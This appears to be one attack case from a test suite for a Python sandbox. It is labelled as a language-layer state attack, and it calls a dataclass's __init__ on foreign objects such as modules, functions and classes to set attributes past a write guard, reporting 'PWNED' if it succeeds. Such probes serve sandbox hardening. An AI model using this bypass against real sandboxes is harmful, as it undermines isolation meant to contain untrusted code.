# attack: dataclass-init-of-foreign
# layer: language
# class: state
# success: the __init__ of a data class sets attributes of objects that are not its own, past the write guard
import functools, json
from dataclasses import dataclass, fields
@dataclass
class Sets:
    key: object
    attrname: object = None
class Other:
    @functools.cached_property
    def x(self): return 1
@dataclass
class Plain:
    v: int
def run():
    for owner in (json.dumps, run, Other.x, fields(Plain)[0], json, Sets, Other(), Plain(1)):
        try:
            Sets.__init__(owner, "__dict__", "__getstate__")
            return "PWNED " + repr(owner)
        except TypeError:
            pass
    return "no"
